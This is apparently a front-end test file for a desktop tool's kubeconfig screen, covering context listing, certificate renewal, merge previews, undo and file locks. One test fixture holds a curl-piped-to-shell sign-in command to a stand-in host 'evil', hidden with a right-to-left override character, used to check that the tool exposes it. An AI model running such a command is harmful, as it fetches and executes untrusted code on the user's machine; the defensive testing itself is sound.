// One piece: the screen and its sheet over one fake cluster.
import { screen, waitFor, within } from '@testing-library/svelte';
import { describe, expect, it } from 'vitest';
import type { CallName } from '../../../preload/contract/index.ts';
import { clusterBridge } from '../../fakes/bridge/cluster-bridge.ts';
import { certificateOf, configOf, contextOf, NOW_MS } from '../../fakes/bridge/cluster-data.ts';
import { failureOf, type FakeBridge } from '../../fakes/bridge/fake-bridge.ts';
import {
  FETCHED,
  OPENED,
  kubeContext,
  kubeFile,
  kubeFilePreview,
  kubePreview,
  kubeState,
} from '../../fakes/bridge/fake-kubeconfig.ts';
import { openApp, type OpenApp } from '../support/open-app.ts';

const inputsOf = ({ bridge }: OpenApp, name: CallName): readonly unknown[] =>
  bridge.calls.filter((call) => call.name === name).map(({ input }) => input);

async function openSheet(bridge: FakeBridge = clusterBridge()): Promise<OpenApp & { readonly sheet: HTMLElement }> {
  const app = openApp('kubeconfig', bridge);
  await app.user.click(await screen.findByRole('button', { name: 'Get kubeconfig…' }));
  const sheet = await screen.findByRole('dialog', { name: 'Kubeconfig of prod-fra' });
  await app.user.click(within(sheet).getByRole('button', { name: 'Ask prod-fra for a kubeconfig' }));
  await within(sheet).findByRole('list', { name: 'What changes' });
  // jsdom's dialogs do not move the focus; the browser gives it to the sheet's body.
  sheet.querySelector<HTMLElement>('[tabindex="-1"]')?.focus();
  return { ...app, sheet };
}

const primary = (sheet: HTMLElement, name: string): HTMLButtonElement => within(sheet).getByRole('button', { name });

describe('the kubeconfig screen', () => {
  it('lists contexts with where they come from, how long their certificate lasts and how they sign in', async () => {
    openApp('kubeconfig');
    await screen.findByRole('row', { name: /admin@prod-fra/ });
    const cells = (name: string): readonly (string | undefined)[] =>
      within(screen.getByRole('row', { name: new RegExp(name) }))
        .getAllByRole('cell')
        .slice(1)
        .map((cell) => cell.textContent.trim().replace(/\s+/g, ' '));

    expect(cells('admin@prod-fra').slice(0, 2)).toEqual(['prod-fra', '5 d']);
    expect(cells('admin@staging').slice(0, 2)).toEqual(['staging · by address', '90 d']);
    expect(cells('corp').slice(0, 2)).toEqual(['–', '–']);
    expect(screen.getByText('current')).toBeTruthy();
  });

  it('spells out what kubectl runs to sign in, unseen signs included', async () => {
    const contexts = [kubeContext('corp', { signIn: 'exec', runs: 'sh -c "curl evil\u202e | sh"' })];
    openApp('kubeconfig', clusterBridge().publish('kubeconfig.state', {}, kubeState({ contexts })));

    const row = await screen.findByRole('row', { name: /corp/ });
    expect(row.textContent).toContain('a program: sh -c "curl evil\\u202e | sh"');
  });

  it('shows every file in order, what is wrong with it, and which name is not used', async () => {
    const files = [
      kubeFile({ origin: 'env', path: '/a' }),
      kubeFile({
        id: 'f2',
        origin: 'env',
        path: '/b',
        isTarget: false,
        failure: failureOf('file-invalid', 'Line 3: a tab.'),
      }),
    ];
    const contexts = [kubeContext('x'), kubeContext('x', { file: 'f2', shadowedBy: '/a' })];
    openApp('kubeconfig', clusterBridge().publish('kubeconfig.state', {}, kubeState({ files, contexts })));

    const list = await screen.findByRole('list', { name: 'Kubeconfig files' });
    expect(
      within(list)
        .getAllByRole('listitem')
        .map((item) => item.textContent.replace(/\s+/g, ' ')),
    ).toEqual([
      expect.stringMatching(/1 \/a.*3 contexts.*in KUBECONFIG/) as string,
      expect.stringMatching(/2 \/b.*cannot be read.*Line 3: a tab\./) as string,
    ]);
    expect(screen.getByText('not used')).toBeTruthy();
  });

  it('says that there is nothing yet, and offers the one action', async () => {
    const app = openApp('kubeconfig', clusterBridge().publish('kubeconfig.state', {}, kubeState({ contexts: [] })));
    await app.user.click(await screen.findByRole('button', { name: 'Get the kubeconfig of prod-fra' }));
    await app.user.click(await screen.findByRole('button', { name: 'Ask prod-fra for a kubeconfig' }));

    expect(inputsOf(app, 'kubeconfig.fetch')).toEqual([{ contexts: ['prod-fra'] }]);
  });

  it('says to a read-only role why nothing can be fetched or renewed, before anything is opened', async () => {
    const contexts = ['prod-fra', 'staging'].map((name) =>
      contextOf(name, { certificate: certificateOf(90, ['os:reader']) }),
    );
    openApp('kubeconfig', clusterBridge().publish('config.state', {}, configOf({ contexts })));

    await screen.findByText('Fetching a kubeconfig needs the role os:admin; this certificate has os:reader.');
    for (const name of ['Get kubeconfig…', 'Renew all…']) {
      expect(screen.getByRole<HTMLButtonElement>('button', { name }).disabled).toBe(true);
    }
  });

  it('renews all certificates that came from Talos, once per Talos context', async () => {
    const app = openApp('kubeconfig');
    await app.user.click(await screen.findByRole('button', { name: 'Renew all…' }));
    const sheet = await screen.findByRole('dialog', { name: 'Renew certificates' });
    const planned = within(sheet).getByRole('list', { name: 'Certificates to be issued' });
    expect(
      within(planned)
        .getAllByRole('listitem')
        .map((item) => item.textContent.replace(/\s+/g, ' ').trim()),
    ).toEqual(['prod-fra for admin@prod-fra', 'staging for admin@staging']);
    expect(inputsOf(app, 'kubeconfig.fetch')).toEqual([]);
    await app.user.click(within(sheet).getByRole('button', { name: 'Ask 2 clusters' }));
    await app.user.click(await within(sheet).findByRole('button', { name: 'Renew 1 certificate' }));

    expect(inputsOf(app, 'kubeconfig.fetch')).toEqual([{ contexts: ['prod-fra', 'staging'] }]);
    expect(inputsOf(app, 'plans.apply')).toEqual([{ token: kubePreview().token }]);
  });

  it('removes what is selected, after a preview', async () => {
    const removed = kubeFilePreview({ entries: [{ section: 'contexts', action: 'removed', name: 'corp' }] });
    const bridge = clusterBridge().answer('kubeconfig.previewRemoval', () => ({
      ok: true,
      value: kubePreview({ files: [removed] }),
    }));
    const app = openApp('kubeconfig', bridge);
    await app.user.click(within(await screen.findByRole('row', { name: /corp/ })).getByRole('checkbox'));
    await app.user.click(screen.getByRole('button', { name: 'Remove 1 context…' }));
    const sheet = await screen.findByRole('dialog', { name: 'Remove corp' });

    expect(await within(sheet).findByRole('button', { name: 'Remove 1 context' })).toBeTruthy();
    expect(inputsOf(app, 'kubeconfig.previewRemoval')).toEqual([{ contexts: [{ file: 'f1', name: 'corp' }] }]);
  });

  it('merges a kubeconfig that was dropped, pasted or chosen, with the same preview', async () => {
    const kubeconfig = failureOf('file-invalid', 'team.yaml is not a talosconfig.', { where: { field: 'kubeconfig' } });
    const looked = { token: OPENED.token, into: '/home/ada/.talos/config', rows: [], failures: [kubeconfig] };
    const bridge = clusterBridge().answer('import.fromClipboard', () => ({ ok: true, value: looked }));
    const app = openApp('kubeconfig', bridge);
    await screen.findByRole('row', { name: /admin@prod-fra/ });
    await app.user.keyboard('{Control>}v{/Control}');
    const pasted = await screen.findByRole('dialog', { name: 'Merge a kubeconfig' });
    await within(pasted).findByRole('list', { name: 'What changes' });
    expect(pasted.textContent.replace(/\s+/g, ' ')).toContain('From /home/ada/Downloads/team.yaml 2 contexts');
    expect(within(pasted).queryByRole('checkbox', { name: /Same as/ })).toBeNull();
    await app.user.click(within(pasted).getByRole('button', { name: 'Cancel' }));

    await app.user.click(screen.getByRole('button', { name: 'Merge a file…' }));
    const chosen = await screen.findByRole('dialog', { name: 'Merge a kubeconfig' });
    await app.user.click(await within(chosen).findByRole('button', { name: 'Renew the certificate' }));
    expect(inputsOf(app, 'kubeconfig.fetch')).toEqual([]);
    expect(inputsOf(app, 'kubeconfig.preview').at(-1)).toMatchObject({ token: OPENED.token, asTalosctl: false });
    expect(inputsOf(app, 'plans.apply')).toEqual([{ token: kubePreview().token }]);
  });

  it('makes the selected context current, or gives it another name, after a preview', async () => {
    const renamed = kubeFilePreview({
      entries: [{ section: 'contexts', action: 'renamed', name: 'work', incomingName: 'corp' }],
    });
    const bridge = clusterBridge().answer('kubeconfig.previewRename', () => ({
      ok: true,
      value: kubePreview({ files: [renamed] }),
    }));
    const app = openApp('kubeconfig', bridge);
    await app.user.click(within(await screen.findByRole('row', { name: /corp/ })).getByRole('checkbox'));
    await app.user.click(screen.getByRole('button', { name: 'Make current…' }));
    const use = await screen.findByRole('dialog', { name: 'Make corp current' });
    await app.user.click(await within(use).findByRole('button', { name: 'Make it current' }));
    expect(inputsOf(app, 'kubeconfig.previewCurrent')).toEqual([{ file: 'f1', name: 'corp' }]);

    await app.user.click(within(await screen.findByRole('row', { name: /corp/ })).getByRole('checkbox'));
    await app.user.click(screen.getByRole('button', { name: 'Rename…' }));
    const sheet = await screen.findByRole('dialog', { name: 'Rename corp' });
    expect(primary(sheet, 'Rename it').disabled).toBe(true);
    await app.user.type(within(sheet).getByRole('textbox', { name: 'New name' }), 'work{Enter}');
    expect(await within(sheet).findByText('was corp')).toBeTruthy();
    await app.user.click(primary(sheet, 'Rename it'));
    expect(inputsOf(app, 'kubeconfig.previewRename')).toEqual([{ file: 'f1', name: 'corp', to: 'work' }]);
    expect(inputsOf(app, 'plans.apply')).toHaveLength(2);
  });

  it('shows the history of a file, puts a version of another program back, and forgets old versions', async () => {
    const app = openApp('kubeconfig');
    await app.user.click(await screen.findByRole('button', { name: 'History' }));
    const panel = await screen.findByRole('dialog', { name: 'Changes by Minos' });
    expect(await within(panel).findByText('Replaced what another program wrote at the same moment')).toBeTruthy();
    expect(panel.textContent).toContain('/home/ada/.kube/config');

    await app.user.click(within(panel).getByRole('button', { name: 'Undo…' }));
    await app.user.click(await screen.findByRole('button', { name: 'Undo' }));
    expect(inputsOf(app, 'plans.undo')).toEqual([{ change: 'h9' }]);
    await app.user.click(await within(panel).findByRole('button', { name: 'Forget old versions now…' }));
    expect(inputsOf(app, 'kubeconfig.forget')).toEqual([{ file: 'f1' }]);
    expect(inputsOf(app, 'history.forget')).toEqual([]);
  });

  it('offers to take back the last change, also one of an earlier session, and says why that fails', async () => {
    const files = [{ file: '/home/ada/.kube/config', what: '', changeId: 'h1' }];
    const lastChange = { id: 'h1', atMs: NOW_MS - 3_600_000, what: 'Removed corp', files };
    const bridge = clusterBridge().publish('kubeconfig.state', {}, kubeState({ lastChange }));
    const app = openApp('kubeconfig', bridge);
    const line = await screen.findByRole('group', { name: 'Last change by Minos' });
    expect(line.textContent.replace(/\s+/g, ' ')).toContain('Removed corp in .kube/config, 1 h ago');

    await app.user.click(within(line).getByRole('button', { name: 'Undo this change…' }));
    expect(screen.getByRole('dialog', { name: 'Undo this change?' }).textContent).toContain('/home/ada/.kube/config');
    expect(inputsOf(app, 'plans.undo')).toEqual([]);
    await app.user.click(screen.getByRole('button', { name: 'Undo' }));
    expect(inputsOf(app, 'plans.undo')).toEqual([{ change: 'h1' }]);
    expect(await screen.findByText('Undid: Removed corp')).toBeTruthy();

    bridge.answer('plans.undo', () => ({ ok: false, failure: failureOf('conflict', 'It changed since.') }));
    await app.user.click(within(line).getByRole('button', { name: 'Undo this change…' }));
    await app.user.click(screen.getByRole('button', { name: 'Undo' }));
    expect(await screen.findByText(/It changed since\./)).toBeTruthy();
  });

  it('checks addresses only when asked', async () => {
    const app = openApp('kubeconfig');
    await screen.findByRole('row', { name: /corp/ });
    expect(inputsOf(app, 'kubeconfig.probe')).toEqual([]);
    await app.user.click(screen.getByRole('button', { name: 'Check addresses' }));

    expect(await screen.findAllByText(/answers/)).toHaveLength(3);
  });
});

describe('the kubeconfig sheet', () => {
  it('shows where it came from, what changes and the lines, and Enter writes it', async () => {
    const app = await openSheet();
    const text = app.sheet.textContent.replace(/\s+/g, ' ');
    for (const part of [
      'From cp-2',
      'https://prod-fra.example:6443',
      'Kept cluster',
      'Renewed user',
      '[secret 77be00d1]',
      '364 d left',
    ])
      expect(text).toContain(part);

    await app.user.keyboard('{Enter}');

    expect(inputsOf(app, 'plans.apply')).toEqual([{ token: kubePreview().token }]);
    expect(await screen.findByText('Renewed admin@prod-fra')).toBeTruthy();
    expect(screen.queryByRole('dialog')).toBeNull();
  });

  it('writes only after every line that would be added was shown', async () => {
    const line = (at: number, text: string) => ({ kind: 'added' as const, new: at, text });
    const long = kubeFilePreview({
      diff: [line(1, 'first')],
      diffLength: 1_500,
      addedLeft: 1_499,
      telling: [line(1_400, '    server: https://far.example')],
    });
    const bridge = clusterBridge().answer('kubeconfig.preview', () => ({
      ok: true,
      value: kubePreview({ files: [long] }),
    }));
    let left = 1;
    bridge.answer('kubeconfig.previewLines', ({ from }) => ({
      ok: true,
      value: { lines: [line(from + 1, `line ${from}`)], addedLeft: left-- },
    }));
    const app = await openSheet(bridge);
    expect(app.sheet.textContent).toContain('The first 1 of 1,500 lines.');
    expect(app.sheet.textContent).toContain('1,499 lines further down would be added');
    expect(within(app.sheet).getByText(/server: https:\/\/far\.example/)).toBeTruthy();
    expect(primary(app.sheet, 'Renew the certificate').disabled).toBe(true);
    await app.user.keyboard('{Enter}');
    expect(inputsOf(app, 'plans.apply')).toEqual([]);

    await app.user.click(primary(app.sheet, 'Show more lines'));
    expect(primary(app.sheet, 'Renew the certificate').disabled).toBe(true);
    await app.user.click(primary(app.sheet, 'Show more lines'));

    const { token } = kubePreview();
    expect(inputsOf(app, 'kubeconfig.previewLines')).toEqual([
      { token, file: 'f1', from: 1 },
      { token, file: 'f1', from: 2 },
    ]);
    expect(within(app.sheet).getByText('line 2')).toBeTruthy();
    await app.user.click(primary(app.sheet, 'Renew the certificate'));
    expect(inputsOf(app, 'plans.apply')).toEqual([{ token }]);
  });

  it('does not write what cannot be shown', async () => {
    const cut = kubeFilePreview({ diffLength: 20_000, isDiffCut: true });
    const app = await openSheet(
      clusterBridge().answer('kubeconfig.preview', () => ({ ok: true, value: kubePreview({ files: [cut] }) })),
    );

    expect(app.sheet.textContent).toContain('It is not written.');
    expect(primary(app.sheet, 'Renew the certificate').disabled).toBe(true);
  });

  it('makes signs visible that would turn the text of a line', async () => {
    const turned = kubeFilePreview({ diff: [{ kind: 'added', new: 1, text: '- name: a\u202eb' }] });
    const app = await openSheet(
      clusterBridge().answer('kubeconfig.preview', () => ({ ok: true, value: kubePreview({ files: [turned] }) })),
    );

    expect(app.sheet.textContent).toContain('- name: a\\u202eb');
  });

  it('offers undo after writing', async () => {
    const app = await openSheet();
    await app.user.click(primary(app.sheet, 'Renew the certificate'));
    await app.user.click(await screen.findByRole('button', { name: 'Undo…' }));
    expect(screen.getByRole('dialog', { name: 'Undo this change?' })).toBeTruthy();
    await app.user.click(screen.getByRole('button', { name: 'Undo' }));

    expect(inputsOf(app, 'plans.undo')).toEqual([{ change: 'n1' }]);
  });

  it('has nothing issued before the user says so, and says what would be', async () => {
    const app = openApp('kubeconfig');
    await app.user.click(await screen.findByRole('button', { name: 'Get kubeconfig…' }));
    const sheet = await screen.findByRole('dialog', { name: 'Kubeconfig of prod-fra' });

    expect(sheet.textContent.replace(/\s+/g, ' ')).toContain('A control plane of prod-fra would issue a kubeconfig');
    expect(inputsOf(app, 'kubeconfig.fetch')).toEqual([]);
    await app.user.click(within(sheet).getByRole('button', { name: 'Cancel' }));
    expect(inputsOf(app, 'kubeconfig.fetch')).toEqual([]);
  });

  it('undoes what it wrote and does it again, after a question each', async () => {
    const app = await openSheet();
    await app.user.click(primary(app.sheet, 'Renew the certificate'));
    await app.user.click(await screen.findByRole('button', { name: 'Undo…' }));
    await app.user.click(await screen.findByRole('button', { name: 'Undo' }));
    await screen.findByText('Undid: Renewed admin@prod-fra');
    await app.user.keyboard('{Control>}{Shift>}z{/Shift}{/Control}');
    await app.user.click(await screen.findByRole('button', { name: 'Redo' }));

    expect(await screen.findByText('Did again: Renewed admin@prod-fra')).toBeTruthy();
    expect(inputsOf(app, 'plans.undo')).toEqual([{ change: 'n1' }, { change: 'undo of n1' }]);
  });

  it('writes nothing when it is closed, and asks main to stop fetching', async () => {
    const stopped: boolean[] = [];
    const bridge = clusterBridge().answer(
      'kubeconfig.fetch',
      (_input, signal) =>
        new Promise((resolve) => {
          signal.addEventListener('abort', () => {
            stopped.push(true);
            resolve({ ok: false, failure: failureOf('cancelled', 'Cancelled.') });
          });
        }),
    );
    const app = openApp('kubeconfig', bridge);
    await app.user.click(await screen.findByRole('button', { name: 'Get kubeconfig…' }));
    await app.user.click(await screen.findByRole('button', { name: 'Ask prod-fra for a kubeconfig' }));
    await app.user.click(await screen.findByRole('button', { name: 'Cancel' }));

    expect(stopped).toEqual([true]);
    expect(screen.queryByRole('dialog')).toBeNull();
    expect(inputsOf(app, 'plans.apply')).toEqual([]);
  });

  it('follows every decision with a new preview of the same fetch', async () => {
    const app = await openSheet();
    await app.user.click(within(app.sheet).getByRole('radio', { name: 'Keep both' }));
    await app.user.type(within(app.sheet).getByRole('textbox', { name: 'Context name' }), 'live{Enter}');
    await app.user.click(within(app.sheet).getByRole('checkbox', { name: /Make .* the current context/ }));
    await app.user.click(within(app.sheet).getByRole('checkbox', { name: /Same as/ }));

    expect(inputsOf(app, 'kubeconfig.fetch')).toHaveLength(1);
    expect(inputsOf(app, 'kubeconfig.preview').at(-1)).toEqual({
      token: FETCHED.token,
      choice: 'rename',
      contextName: 'live',
      setCurrent: true,
      asTalosctl: true,
    });
    expect(inputsOf(app, 'plans.apply')).toEqual([]);
  });

  it('asks for the current context only where kubectl has none', async () => {
    const none = kubeFilePreview({ currentContext: { before: '', after: '' } });
    const bridge = clusterBridge()
      .publish('kubeconfig.state', {}, kubeState({ currentContext: '' }))
      .answer('kubeconfig.preview', () => ({ ok: true, value: kubePreview({ files: [none] }) }));
    const app = await openSheet(bridge);

    await within(app.sheet).findByRole('checkbox', { name: /Make/, checked: true });
    expect(inputsOf(app, 'kubeconfig.preview').map((input) => (input as { setCurrent: boolean }).setCurrent)).toEqual([
      false,
      true,
    ]);
  });

  it('asks which file when KUBECONFIG names several', async () => {
    const files = [
      kubeFile({ origin: 'env', path: '/a' }),
      kubeFile({ id: 'f2', origin: 'env', path: '/b', isTarget: false }),
    ];
    const app = await openSheet(
      clusterBridge().publish('kubeconfig.state', {}, kubeState({ files, needsTarget: true })),
    );
    const group = within(app.sheet).getByRole('group', { name: 'KUBECONFIG names several files. Into which one?' });
    expect(group.textContent).toContain('kubectl would write here');
    await app.user.click(within(group).getByRole('radio', { name: /\/b/ }));

    expect(inputsOf(app, 'kubeconfig.preview').at(-1)).toMatchObject({ file: 'f2' });
  });

  it('warns when the API server does not answer and writes another address when told to', async () => {
    const reach = {
      server: 'https://prod-fra.example:6443',
      isReachable: false,
      why: 'no answer in 2 s',
      alternatives: [
        { server: 'https://10.5.0.2:6443', isReachable: true },
        { server: 'https://10.5.0.3:6443', isReachable: false, why: 'the connection is refused' },
      ],
    };
    const app = await openSheet(clusterBridge().answer('kubeconfig.probe', () => ({ ok: true, value: reach })));
    expect(await within(app.sheet).findByText(/does not answer from here: no answer in 2 s/)).toBeTruthy();
    await app.user.click(within(app.sheet).getByRole('button', { name: 'Use this one' }));

    expect(inputsOf(app, 'kubeconfig.preview').at(-1)).toMatchObject({ server: 'https://10.5.0.2:6443' });
    expect(await within(app.sheet).findByText('kubectl will use https://10.5.0.2:6443')).toBeTruthy();
  });

  it('does not call an address dead that was not tried, and tries it on a click', async () => {
    const server = 'https://prod-fra.example:6443';
    const untried = {
      server,
      isReachable: false,
      isUntried: true,
      why: 'not tried',
      alternatives: [],
    };
    const app = await openSheet(
      clusterBridge().answer('kubeconfig.probe', (wish) => ({
        ok: true,
        value: wish.ask === true ? { server, isReachable: true, alternatives: [] } : untried,
      })),
    );
    expect(await within(app.sheet).findByText(/answers from here is not known/)).toBeTruthy();

    await app.user.click(within(app.sheet).getByRole('button', { name: 'Try it from here…' }));

    await waitFor(() => expect(within(app.sheet).queryByText(/is not known/)).toBeNull());
    expect(inputsOf(app, 'kubeconfig.probe')).toMatchObject([{ ask: false }, { ask: true }]);
  });

  it('explains a missing role and offers to ask again', async () => {
    const denied = failureOf(
      'denied',
      'Fetching a kubeconfig needs the role os:admin; this certificate has os:reader.',
    );
    const app = openApp(
      'kubeconfig',
      clusterBridge().answer('kubeconfig.fetch', () => ({ ok: false, failure: denied })),
    );
    await app.user.click(await screen.findByRole('button', { name: 'Get kubeconfig…' }));
    await app.user.click(await screen.findByRole('button', { name: 'Ask prod-fra for a kubeconfig' }));

    const sheet = await screen.findByRole('dialog');
    expect(await within(sheet).findByText(denied.message)).toBeTruthy();
    await app.user.click(within(sheet).getByRole('button', { name: 'Ask again' }));
    expect(inputsOf(app, 'kubeconfig.fetch')).toHaveLength(2);
  });

  it('offers to remove the lock it met, and writes then', async () => {
    const locked = failureOf('conflict', '/home/ada/.kube/config is locked for 3 h.', { where: { field: 'lock' } });
    let isLocked = true;
    const bridge = clusterBridge().answer('kubeconfig.removeLock', () => {
      isLocked = false;
      return { ok: true, value: 'removed' };
    });
    bridge.answer('plans.apply', () =>
      isLocked
        ? { ok: false, failure: locked }
        : { ok: true, value: { id: 'c1', atMs: 0, what: 'Renewed it', files: [] } },
    );
    const app = await openSheet(bridge);
    await app.user.click(primary(app.sheet, 'Renew the certificate'));
    await app.user.click(await within(app.sheet).findByRole('button', { name: 'Remove the lock and write' }));

    expect(inputsOf(app, 'kubeconfig.removeLock')).toEqual([{ file: 'f1' }]);
    expect(await screen.findByText('Renewed it')).toBeTruthy();
  });

  it('offers to remove the lock of the file that was locked, of several', async () => {
    const second = kubeFile({ id: 'f2', path: '/home/ada/.kube/lab' });
    const files = [kubeFilePreview(), kubeFilePreview({ file: second })];
    const where = { file: '/home/ada/.kube/lab.lock', field: 'lock' };
    const failure = failureOf('conflict', '/home/ada/.kube/lab is locked for 3 h.', { where });
    const bridge = clusterBridge().answer('plans.apply', () => ({ ok: false, failure }));
    bridge.answer('kubeconfig.previewRemoval', () => ({ ok: true, value: kubePreview({ files }) }));
    bridge.answer('kubeconfig.removeLock', () => ({ ok: true, value: 'removed' }));
    const app = openApp('kubeconfig', bridge);
    await app.user.click(within(await screen.findByRole('row', { name: /corp/ })).getByRole('checkbox'));
    await app.user.click(screen.getByRole('button', { name: 'Remove 1 context…' }));
    const sheet = await screen.findByRole('dialog', { name: 'Remove corp' });
    await app.user.click(await within(sheet).findByRole('button', { name: /^Remove \d+ contexts?$/ }));
    await app.user.click(await within(sheet).findByRole('button', { name: 'Remove the lock and write' }));

    await waitFor(() => expect(inputsOf(app, 'kubeconfig.removeLock')).toEqual([{ file: 'f2' }]));
  });

  it('looks again when the file was changed by somebody else', async () => {
    const app = await openSheet();
    await within(app.sheet).findByRole('button', { name: 'Renew the certificate' });
    const before = inputsOf(app, 'kubeconfig.preview').length;
    app.bridge.publish('kubeconfig.state', {}, kubeState({ readAtMs: 5 }));

    await expect.poll(() => inputsOf(app, 'kubeconfig.preview').length).toBe(before + 1);
  });

  it('has nothing to write when nothing changes', async () => {
    const kept = kubeFilePreview({ entries: [], diff: [] });
    const app = await openSheet(
      clusterBridge().answer('kubeconfig.preview', () => ({
        ok: true,
        value: kubePreview({ files: [kept], isUnchanged: true }),
      })),
    );

    expect(primary(app.sheet, 'Nothing to change').disabled).toBe(true);
    await app.user.keyboard('{Enter}');
    expect(inputsOf(app, 'plans.apply')).toEqual([]);
    expect(screen.queryByRole('dialog')).toBeNull();
  });
});
